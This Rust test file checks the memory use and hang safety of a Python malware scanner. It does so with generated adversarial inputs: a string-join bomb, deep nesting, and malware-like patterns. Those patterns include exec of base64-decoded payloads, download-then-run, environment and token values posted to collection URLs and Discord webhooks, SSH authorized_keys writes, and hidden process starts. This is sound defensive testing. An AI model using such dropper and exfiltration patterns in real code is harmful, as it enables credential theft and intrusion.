//! The scanner on adversarial sources stays within a memory budget per MB of
//! input and never hangs: string bombs, deep nesting, long concatenations,
//! 100,000 calls, a 10 MB line, long decode chains, string repetition.
//!
//! Each case runs in a child process (this test binary again, with
//! [`CASE_VAR`] naming the case's source, written to a file by the parent)
//! under a hard address-space limit (`ulimit -v`), so a regression is a
//! clean failure, not the machine's OOM killer. The child reads the source
//! (one allocation of its size), resets its peak resident memory (`VmHWM`,
//! through `/proc/self/clear_refs`), scans, and reports the peak above what
//! it held before with the findings; the parent checks both. Time is only a
//! hang guard ([`HANG_GUARD`], far above the few seconds a case takes even
//! in a debug build); the work done is checked through what is
//! deterministic: the findings, and the bytes and steps the fold budget
//! counted. The table the test prints gives each case's input, peak and
//! budget.

#![cfg(target_os = "linux")]

use std::io::Read;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use revitpy_scan::{Entry, ManifestFacts, fold, python, scan};

/// Set in the child: the file holding the case's source.
const CASE_VAR: &str = "REVITPY_SCAN_RESOURCE_CASE";

/// A case's memory budget: the scan may add this much resident memory...
const BASE_MIB: usize = 96;
/// ...plus this much per MiB of input (parse trees, facts and findings are
/// linear in the input; a debug build's are larger than a release's).
const PER_INPUT_MIB: usize = 48;
/// Address space the child may reserve at all (threads reserve stacks and
/// malloc arenas up front): a runaway allocation fails here.
const ADDRESS_SPACE_MIB: usize = 4096;
/// A case taking longer than this hangs (a case takes seconds at most).
const HANG_GUARD: Duration = Duration::from_secs(120);

struct Case {
    name: &'static str,
    source: fn() -> String,
    /// A rule the scan must report (the case's own finding), if any.
    expect: Option<&'static str>,
}

/// Five nested `sep.join([...])` whose separators are the level below: 1,559
/// bytes that spell about 6.7 GB (the security review's bomb).
fn join_bomb() -> String {
    let mut e = String::from("'ab'");
    for _ in 0..5 {
        e = format!("({e}).join([{}])", vec!["'a'"; 75].join(","));
    }
    let src = format!("x = {e}\n");
    assert_eq!(src.len(), 1559);
    src
}

fn deep_brackets() -> String {
    format!("x = {}1{}\n", "(".repeat(100_000), ")".repeat(100_000))
}

/// 20,000 terms on one line: past the fast parser's guard, too deep for the other.
fn long_concatenation_line() -> String {
    format!("x = {}\n", vec!["'ab'"; 20_000].join(" + "))
}

/// 20,000 terms across lines, in brackets.
fn long_concatenation_lines() -> String {
    format!("x = (\n    {}\n)\n", vec!["'ab'"; 20_000].join(" +\n    "))
}

/// The longest chains the fast parser takes (1,400 terms), each starting
/// with a name so that no prefix folds, 300 of them: every sub-chain is
/// tried again by each enclosing walk.
fn many_unfoldable_chains() -> String {
    let chain = format!("y = x + {}\n", vec!["'ab'"; 1_400].join(" + "));
    chain.repeat(100)
}

/// Foldable chains of the same length: each folds to 2,800 bytes, many times.
fn many_foldable_chains() -> String {
    let chain = format!("y = f({})\n", vec!["'ab'"; 1_400].join(" + "));
    chain.repeat(100)
}

/// 100,000 calls, each a finding (a process started), with distinct commands.
fn many_calls() -> String {
    let mut s = String::from("import subprocess, requests, os\n");
    for i in 0..100_000 {
        s.push_str(&match i % 4 {
            0 => format!("subprocess.call(['tool', '{i}'])\n"),
            1 => format!("requests.get('http://example.com/{i}')\n"),
            2 => format!("open('out{i}.txt', 'w')\n"),
            _ => format!("getattr(os, 'sys' + 'tem')('echo {i}')\n"),
        });
    }
    s
}

/// 10 MB on one line: past the parse limit, so only its start is read.
fn ten_mb_line() -> String {
    let mut s = String::from("x = [");
    while s.len() < 10_000_000 {
        s.push_str("12345, ");
    }
    s.push_str("]\n");
    s
}

/// A 2 MB hex constant, decoded to base64, decoded to Python, executed. Each
/// enclosing walk folds the chain again, so past the first few folds this
/// one also runs out of budget (a second high finding).
fn decode_chain() -> String {
    let inner = "print('hello')\n".repeat(50_000);
    let b64 = base64_encode(inner.as_bytes());
    let hex: String = b64.bytes().map(|b| format!("{b:02x}")).collect();
    format!("import base64, binascii\nexec(base64.b64decode(bytes.fromhex('{hex}').decode()))\n")
}

/// A 1 MB constant encoded again and again: each fold is a copy the facts would keep.
fn encode_copies() -> String {
    format!("x = '{}'{}\n", "a".repeat(1_000_000), ".encode()".repeat(400))
}

/// 200 attribute chains of 1,400 levels naming a Revit member: each level
/// is a reference of its own, each with the chain (once 2.3 GB from 112 KB).
fn attribute_chains() -> String {
    format!("y = IntegerValue{}\n", ".a".repeat(1_400)).repeat(200)
}

/// Each alias one attribute longer than the last (`a2 = a1.b`): the names
/// grow with the file (once 520 MB from 266 KB).
fn growing_aliases() -> String {
    let mut s = String::from("import os\na0 = os\n");
    for i in 1..60_000 {
        s.push_str(&format!("a{i} = a{}.b\n", i - 1));
    }
    s
}

/// 100,000 distinct names in one expression (each summary keeps a name once).
fn many_names() -> String {
    let names: Vec<String> = (0..100_000).map(|i| format!("n{i}")).collect();
    format!("import requests\nrequests.post('u', data=[{}])\n", names.join(", "))
}

/// A class of 20,000 methods called through `self` 20,000 times: each call
/// finds its method in one lookup (a search of every method per call had
/// made this quadratic).
fn many_methods() -> String {
    let mut s = String::from("import base64\nclass C:\n");
    for i in 0..20_000 {
        s.push_str(&format!("    def m{i}(self, x):\n        self.m{}(base64.b64decode(x))\n", (i + 1) % 20_000));
    }
    s
}

/// 20,000 decoded writes in one function and 20,000 program names in
/// another: the dropper check looks each write's function up once (a scan
/// of every string per write had made this quadratic).
fn many_dropped_writes() -> String {
    let mut s = String::from("import base64, subprocess\ndef drop(f, b):\n");
    for _ in 0..20_000 {
        s.push_str("    f.write(base64.b64decode(b))\n");
    }
    s.push_str("def names():\n");
    for i in 0..20_000 {
        s.push_str(&format!("    p{i} = 'x{i}.exe'\n"));
    }
    s.push_str("    subprocess.Popen(p0)\n");
    s
}

/// One function of 20,000 hidden starts, then 20,000 copies of a program
/// into the temporary folder and one hidden start after them; a second of
/// 20,000 writes beside an SSH key and `authorized_keys`. Each copy and
/// write looks its function up in a table, not through every call.
fn many_copies_and_starts() -> String {
    let mut s = String::from(
        "import shutil, subprocess, tempfile
def drop(src):
    t = tempfile.gettempdir()
",
    );
    for _ in 0..20_000 {
        s.push_str(
            "    subprocess.Popen(t, creationflags=subprocess.CREATE_NO_WINDOW)
",
        );
    }
    for i in 0..20_000 {
        s.push_str(&format!(
            "    shutil.copy(src, t + '/x{i}.exe')
"
        ));
    }
    s.push_str(
        "    subprocess.Popen(t, creationflags=subprocess.CREATE_NO_WINDOW)
",
    );
    s.push_str(
        "def keys(f):
    k = 'ssh-ed25519 AAAAC3Nz written-for-the-test'
    p = 'authorized_keys'
",
    );
    for _ in 0..20_000 {
        s.push_str(
            "    f.write(k)
",
        );
    }
    s
}

/// Past the parse limit, 8 MB of tiny function definitions: the tail's
/// reading as definitions keeps at most a bounded number of names and stays
/// linear.
fn many_definitions_past_the_limit() -> String {
    let mut s = String::from("class Ops:\n");
    let mut i = 0u32;
    while s.len() < 8 << 20 {
        s.push_str(&format!("    def m{i}(self):\n        return self.m{}()\n", i + 1));
        i += 1;
    }
    s
}

/// Past the parse limit, 2,000 `def`s nested one in another, each header
/// naming `open` and `requests` 500 times as parameters, each body reading
/// them: a parameter stands for its risky name in every def it encloses,
/// and the reading of the tail looks each name up once (a count per name,
/// each def's names counted once), not in every enclosing def's list.
fn nested_risky_parameters_past_the_limit() -> String {
    let mut s = String::from("x = 1\n");
    s.push_str(&"# padding to the parse limit\n".repeat((4 << 20) / 29 + 1));
    let params = ["open", "requests"].repeat(500).join(", ");
    for depth in 0..2_000 {
        let indent = " ".repeat(depth);
        s.push_str(&format!("{indent}def f{depth}({params}):\n{indent} y = open or requests\n"));
    }
    s
}

/// 20,000 functions that download and 20,000 that start a process, none
/// meeting another: each start looks its function, the loading time and
/// its words up in tables built once, not every download (it had been a
/// search per pair: 3,000 of each took 1.6 s).
fn many_downloads_and_starts() -> String {
    let mut s = String::from("import subprocess, urllib.request\n");
    for i in 0..20_000 {
        s.push_str(&format!("def d{i}(u):\n    urllib.request.urlretrieve(u, 'a{i}.bin')\n"));
    }
    for i in 0..20_000 {
        s.push_str(&format!("def r{i}():\n    subprocess.Popen(['b{i}'])\n"));
    }
    s
}

/// 20,000 functions reading the clipboard and 20,000 posting to an address
/// written out, each its own: every capture against every send would be
/// 400 million pairs; one pass over the captures' functions answers each send.
fn many_captures_and_sends() -> String {
    let mut s = String::from("import pyperclip, requests\n");
    for i in 0..20_000 {
        s.push_str(&format!("def c{i}():\n    return pyperclip.paste()\n"));
    }
    for i in 0..20_000 {
        s.push_str(&format!("def s{i}(d):\n    requests.post('https://api.example.org/{i}', data=d)\n"));
    }
    s
}

/// Modules kept in 20,000 variables, each called through: one table of
/// handles, one lookup per call.
fn many_module_handles() -> String {
    let mut s = String::new();
    for i in 0..20_000 {
        s.push_str(&format!("m{i} = __import__('os')\nm{i}.system(c{i})\n"));
    }
    s
}

/// 20,000 values read under a secret's key, each posted to a webhook:
/// the keyed variables are gathered once, then looked up per send.
fn many_keyed_sends() -> String {
    let mut s = String::from("import requests\n");
    for i in 0..20_000 {
        s.push_str(&format!(
            "v{i} = cfg['token{i}']\nrequests.post('https://discord.com/api/webhooks/{i}/x', data=v{i})\n"
        ));
    }
    s
}

/// 20,000 argument lists kept in variables, each holding a decoded value
/// and each run: the program each names is read from its assignment's line
/// through one table of assignments and one of line starts, built once.
fn many_decoded_argument_lists() -> String {
    let mut s = String::from("import base64, subprocess\nt = base64.b64decode(T).decode()\n");
    for i in 0..20_000 {
        s.push_str(&format!("c{i} = ['docker', 'login', '-p', t]\nsubprocess.run(c{i})\n"));
    }
    s
}

/// One function whose 20,000 commands each run a name of a ring of 100 that
/// the next statement assigns from the next name, all in one loop that
/// decodes the first name at its end: every read is answered in the order
/// of the lines (each name's writers sorted once, each assignment's value
/// found once, ring cycles and chains 48 deep read the whole name), and the
/// loop carries the decoded text back to every command.
fn ordered_reassignment_ring() -> String {
    let mut s = String::from(
        "import base64, subprocess
def serve(blob):
    while True:
",
    );
    for i in 0..20_000 {
        let (k, next) = (i % 100, (i + 1) % 100);
        s.push_str(&format!(
            "        subprocess.run(c{k}, shell=True)
        c{k} = c{next} + ' x'
"
        ));
    }
    s.push_str(
        "        c0 = base64.b64decode(blob)
",
    );
    s
}

/// 20,000 base64 constants kept in variables, each decoded and run: only
/// the first few such calls are looked up and decoded (each within the
/// file's fold budget), and their payloads read once each.
fn many_held_payloads() -> String {
    // `import os\nos.getcwd()\n`, encoded.
    let mut s = String::from("import base64\n");
    for i in 0..20_000 {
        s.push_str(&format!("V{i} = 'aW1wb3J0IG9zCm9zLmdldGN3ZCgpCg=='\nexec(base64.b64decode(V{i}))\n"));
    }
    s
}

/// 20,000 helpers, each with a comprehension over its parameter kept in a
/// local it returns, each called with the environment: one scope per
/// comprehension and per function, all placed in one sweep over the lines.
fn many_comprehension_helpers() -> String {
    let mut s = String::from("import os, requests\n");
    for i in 0..20_000 {
        s.push_str(&format!("def f{i}(v):\n    t = [x.strip() for x in v]\n    return t\nr{i} = f{i}(os.environ)\n"));
    }
    s.push_str("requests.post('https://collect.example.net/e', data=r19999)\n");
    s
}

/// A file that names the builtins, with 20,000 computed callees (what its
/// own functions return, methods looked up on an object), each given
/// decoded data: sets of the file's tables, functions and modules are
/// built once, and each callee asks a few lookups.
fn many_computed_callees() -> String {
    let mut s = String::from("import base64, builtins\nNAMES = dir(builtins)\nx = base64.b64decode(B)\n");
    for i in 0..20_000 {
        s.push_str(&format!("def f{i}():\n    return len\nf{i}()(x)\ngetattr(obj{i}, 'n')(x)\n"));
    }
    s
}

/// 20,000 helpers, each handing its arguments to the next and the last
/// returning one of them, and 20,000 values each made by calls to them on
/// lines of their own: working out what each helper returns of its
/// arguments is done once per helper, a chain past the depth limit keeps
/// every argument (the environment reaches the post), and a value's calls
/// are looked for in a few lines only.
fn many_returning_helpers() -> String {
    let mut s = String::from("import os, requests\n");
    for i in 0..20_000 {
        s.push_str(&format!("def f{i}(a, k):\n    return f{}(a, k)\n", i + 1));
    }
    s.push_str("def f20000(a, k):\n    return k\n");
    for i in 0..20_000 {
        s.push_str(&format!("r{i} = (\n    f{i}(1, os.environ)\n    + f{i}(r{}, 2)\n)\n", i.max(1) - 1));
    }
    s.push_str("requests.post('https://collect.example.net/e', data=r19999)\n");
    s
}

/// 20,000 module-level dispatches on the command line, each a block of its
/// own (half wrapped in `try:`), each downloading and running: the blocks
/// are found in one pass over the lines, and the timing graph paints each
/// once.
fn many_argv_dispatches() -> String {
    let mut s = String::from(
        "import subprocess, sys, requests
",
    );
    for i in 0..20_000 {
        let run = format!(
            "p{i} = requests.get(sys.argv[2]).content
open('t{i}', 'wb').write(p{i})
subprocess.call(['./t{i}'])
"
        );
        if i % 2 == 0 {
            s.push_str(&format!(
                "if sys.argv[1] == '--x{i}':
"
            ));
            s.extend(run.lines().map(|l| {
                format!(
                    "    {l}
"
                )
            }));
        } else {
            s.push_str(&format!(
                "try:
    if sys.argv[1] == '--x{i}':
"
            ));
            s.extend(run.lines().map(|l| {
                format!(
                    "        {l}
"
                )
            }));
            s.push_str(
                "except Exception:
    pass
",
            );
        }
    }
    s
}

/// A comprehension over the environment whose `if` joins 50,000 prefix
/// tests with `and` (the Python 2 front-end's tree is 50,000 levels deep
/// there): refused as too deep before any walk, without a stack overflow.
fn long_prefix_test() -> String {
    let tests = vec!["k.startswith('A')"; 50_000].join(" and ");
    format!("import os\nprint 'x'\nsel = [k for k in os.environ if {tests}]\nsend(sel)\n")
}

/// Repetition is not folded, however large it would be.
fn repetition() -> String {
    "x = ('a' * 1000000) * 1000000\ny = ''.join(['ab' * 10**9] * 10**9)\n".repeat(1_000)
}

fn base64_encode(bytes: &[u8]) -> String {
    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::with_capacity(bytes.len() / 3 * 4 + 4);
    for c in bytes.chunks(3) {
        let n = (c[0] as u32) << 16 | (*c.get(1).unwrap_or(&0) as u32) << 8 | *c.get(2).unwrap_or(&0) as u32;
        for i in 0..4 {
            if i <= c.len() {
                out.push(A[(n >> (18 - 6 * i) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

const CASES: &[Case] = &[
    Case { name: "join-bomb", source: join_bomb, expect: Some("fold-budget-exceeded") },
    Case { name: "deep-brackets", source: deep_brackets, expect: Some("excessive-nesting") },
    Case { name: "concatenation-one-line", source: long_concatenation_line, expect: Some("excessive-nesting") },
    Case { name: "concatenation-many-lines", source: long_concatenation_lines, expect: Some("excessive-nesting") },
    Case { name: "unfoldable-chains", source: many_unfoldable_chains, expect: None },
    Case { name: "foldable-chains", source: many_foldable_chains, expect: None },
    Case { name: "100k-calls", source: many_calls, expect: Some("process") },
    Case { name: "10mb-line", source: ten_mb_line, expect: Some("file-too-large") },
    Case { name: "decode-chain", source: decode_chain, expect: Some("exec-decoded") },
    Case { name: "encode-copies", source: encode_copies, expect: Some("fold-budget-exceeded") },
    Case { name: "repetition", source: repetition, expect: None },
    Case { name: "attribute-chains", source: attribute_chains, expect: None },
    Case { name: "growing-aliases", source: growing_aliases, expect: None },
    Case { name: "100k-names", source: many_names, expect: Some("network") },
    Case { name: "20k-methods", source: many_methods, expect: None },
    Case { name: "20k-dropped-writes", source: many_dropped_writes, expect: Some("process") },
    Case { name: "20k-copies-and-starts", source: many_copies_and_starts, expect: Some("process") },
    Case { name: "8mb-definitions", source: many_definitions_past_the_limit, expect: Some("file-too-large") },
    Case { name: "20k-downloads-and-starts", source: many_downloads_and_starts, expect: Some("download-then-run") },
    Case { name: "20k-module-handles", source: many_module_handles, expect: Some("process-shell") },
    Case { name: "20k-keyed-sends", source: many_keyed_sends, expect: Some("exfiltration") },
    Case { name: "20k-decoded-argument-lists", source: many_decoded_argument_lists, expect: Some("process-decoded") },
    Case { name: "20k-held-payloads", source: many_held_payloads, expect: Some("exec-decoded") },
    Case { name: "20k-comprehension-helpers", source: many_comprehension_helpers, expect: Some("exfiltration") },
    Case { name: "20k-computed-callees", source: many_computed_callees, expect: None },
    Case { name: "50k-prefix-tests", source: long_prefix_test, expect: Some("excessive-nesting") },
    Case { name: "20k-argv-dispatches", source: many_argv_dispatches, expect: Some("download-then-run") },
    Case { name: "20k-returning-helpers", source: many_returning_helpers, expect: Some("exfiltration") },
    Case { name: "20k-captures-and-sends", source: many_captures_and_sends, expect: Some("surveillance-sent") },
    Case { name: "20k-ordered-reassignments", source: ordered_reassignment_ring, expect: Some("process-decoded") },
    Case {
        name: "2k-nested-risky-parameters",
        source: nested_risky_parameters_past_the_limit,
        expect: Some("file-too-large"),
    },
];

/// A line of `/proc/self/status`, in KiB.
fn status_kib(field: &str) -> usize {
    let status = std::fs::read_to_string("/proc/self/status").expect("procfs");
    let line = status.lines().find(|l| l.starts_with(field)).unwrap_or_else(|| panic!("{field} in status"));
    line.split_whitespace().nth(1).and_then(|v| v.parse().ok()).expect("a number of kB")
}

/// What a child reports: one line, `key=value` pairs.
struct Measured {
    input: usize,
    peak_extra_kib: usize,
    rules: Vec<String>,
    findings: usize,
    fold_bytes: usize,
    fold_steps: usize,
}

/// In the child: read the source, then scan it with the peak reset.
fn run_case(path: &str) {
    let src = std::fs::read(path).expect("the case's source");
    // The peak from here on is the scan's (writing 5 resets VmHWM to VmRSS).
    std::fs::write("/proc/self/clear_refs", "5").expect("clear_refs");
    let before = status_kib("VmRSS:");
    let report = scan(&ManifestFacts::default(), &[Entry { path: "case.py", bytes: &src }]);
    let peak = status_kib("VmHWM:");
    let mut rules: Vec<&str> = report.findings.iter().map(|f| f.rule).collect();
    rules.sort_unstable();
    rules.dedup();
    // Fold work, deterministic: what the scan parses, again, with a budget of its own.
    let text = std::str::from_utf8(&src).expect("cases are UTF-8");
    let mut end = text.len().min(revitpy_scan::MAX_PARSE_BYTES);
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    let budget = fold::Budget::new();
    drop(python::parse_within(&text[..end], &budget));
    let granted = fold::STEPS_FLOOR + end * fold::STEPS_PER_BYTE;
    println!(
        "MEASURED input={} peak_extra_kib={} findings={} fold_bytes={} fold_steps={} rules={}",
        src.len(),
        peak.saturating_sub(before),
        report.findings.len(),
        budget.bytes_used(),
        granted.saturating_sub(budget.steps_left()),
        rules.join(",")
    );
}

/// In the parent: the case in a child under the address-space limit.
fn measure(case: &Case) -> Measured {
    let name = case.name;
    let path = std::path::Path::new(env!("CARGO_TARGET_TMPDIR")).join(format!("resource-case-{name}.py"));
    std::fs::write(&path, (case.source)()).unwrap();
    let exe = std::env::current_exe().unwrap();
    let mut child = Command::new("sh")
        .arg("-c")
        .arg(format!("ulimit -v {} && exec \"$0\" \"$@\"", ADDRESS_SPACE_MIB * 1024))
        .arg(exe)
        .args(["child_runs_the_named_case", "--exact", "--nocapture", "--test-threads=1"])
        .env(CASE_VAR, &path)
        // A debug build's frames are several times a release build's: the
        // recursive walks of the longest lines the fast parser takes (1,500
        // tokens) need 1 MiB in release (rayon's threads have 2) and more
        // here. The stack is not what these cases measure.
        .env("RUST_MIN_STACK", (64 * 1024 * 1024).to_string())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("the child starts");
    let start = Instant::now();
    let status = loop {
        if let Some(status) = child.try_wait().unwrap() {
            break status;
        }
        if start.elapsed() > HANG_GUARD {
            child.kill().ok();
            panic!("{name}: still running after {HANG_GUARD:?}");
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    let (mut out, mut err) = (String::new(), String::new());
    child.stdout.take().unwrap().read_to_string(&mut out).unwrap();
    child.stderr.take().unwrap().read_to_string(&mut err).unwrap();
    std::fs::remove_file(&path).ok();
    assert!(status.success(), "{name}: the child failed ({status}):\n{out}\n{err}");
    // The harness may print the test's name on the same line first.
    let line =
        out.lines().find_map(|l| Some(&l[l.find("MEASURED ")? + 9..])).unwrap_or_else(|| panic!("{name}: {out}"));
    let field = |key: &str| {
        line.split(' ').find_map(|kv| kv.strip_prefix(key)?.strip_prefix('=')).unwrap_or_else(|| panic!("{key}"))
    };
    let number = |key: &str| field(key).parse::<usize>().unwrap();
    Measured {
        input: number("input"),
        peak_extra_kib: number("peak_extra_kib"),
        findings: number("findings"),
        fold_bytes: number("fold_bytes"),
        fold_steps: number("fold_steps"),
        rules: field("rules").split(',').filter(|r| !r.is_empty()).map(str::to_owned).collect(),
    }
}

/// The child's entry: does nothing unless [`CASE_VAR`] names a case's source.
#[test]
fn child_runs_the_named_case() {
    if let Ok(path) = std::env::var(CASE_VAR) {
        run_case(&path);
    }
}

#[test]
fn adversarial_sources_stay_within_the_memory_budget() {
    let mut failures = Vec::new();
    for case in CASES {
        let started = Instant::now();
        let m = measure(case);
        let input_mib = m.input.div_ceil(1024 * 1024);
        let budget_kib = (BASE_MIB + PER_INPUT_MIB * input_mib) * 1024;
        println!(
            "{:<26} input {:>10} B  peak +{:>7} KiB (budget {:>7} KiB)  {:>6} findings  fold {:>8} B {:>9} steps  {:.1} s  {:?}",
            case.name,
            m.input,
            m.peak_extra_kib,
            budget_kib,
            m.findings,
            m.fold_bytes,
            m.fold_steps,
            started.elapsed().as_secs_f64(),
            m.rules
        );
        if m.peak_extra_kib > budget_kib {
            failures.push(format!("{}: peak +{} KiB over {budget_kib} KiB", case.name, m.peak_extra_kib));
        }
        if let Some(rule) = case.expect
            && !m.rules.iter().any(|r| r == rule)
        {
            failures.push(format!("{}: no {rule} finding in {:?}", case.name, m.rules));
        }
        // Folding never passes its budget (the bytes are checked before they are built).
        if m.fold_bytes > fold::FILE_BYTES {
            failures.push(format!("{}: folded {} bytes", case.name, m.fold_bytes));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn the_bomb_is_refused_before_it_is_built() {
    let src = join_bomb();
    let budget = fold::Budget::new();
    let facts = python::parse_within(&src, &budget);
    assert_eq!(facts.fold_refused, Some(1));
    // What was folded is the levels below the first refused one: three levels
    // spell 1.2 MB, the fourth 91 MB is refused (over the 2 MiB per result).
    assert!(budget.bytes_used() <= fold::FILE_BYTES, "{}", budget.bytes_used());
    assert!(facts.assembled.iter().all(|(s, _)| s.len() <= fold::MAX_RESULT));
}

/// Scan time against the number of calls in one file, printed, not asserted
/// (the project's rule: no timed assertions): `cargo test --release -p
/// revitpy-scan --test resources calls_scale -- --ignored --nocapture`.
/// Each doubling should about double the time.
#[test]
#[ignore]
fn calls_scale_linearly() {
    for n in [10_000, 20_000, 40_000, 80_000] {
        let mut src = String::from("import subprocess, requests, os\n");
        for i in 0..n {
            src.push_str(&format!("requests.get('http://example.com/{i}')\nsubprocess.call(['tool', '{i}'])\n"));
        }
        let start = Instant::now();
        let report = scan(&ManifestFacts::default(), &[Entry { path: "calls.py", bytes: src.as_bytes() }]);
        println!(
            "{:>6} x 2 calls, {:>8} bytes: {:.3} s, {} findings",
            n,
            src.len(),
            start.elapsed().as_secs_f64(),
            report.findings.len()
        );
    }
}
